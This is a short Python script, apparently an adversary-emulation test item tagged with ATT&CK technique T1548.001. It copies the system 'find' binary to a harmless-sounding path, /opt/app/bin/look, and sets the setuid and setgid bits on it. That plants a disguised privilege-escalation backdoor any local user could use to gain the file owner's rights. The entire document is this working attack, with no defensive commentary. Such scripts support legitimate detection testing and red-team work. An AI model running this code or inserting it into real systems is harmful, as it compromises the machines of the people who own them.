#!/usr/bin/env python3
# title: Python makes a copy of find setuid
# technique: T1548.001
# needs: python3

import os, shutil
shutil.copy("/usr/bin/find", "/opt/app/bin/look")
os.chmod("/opt/app/bin/look", 0o6755)
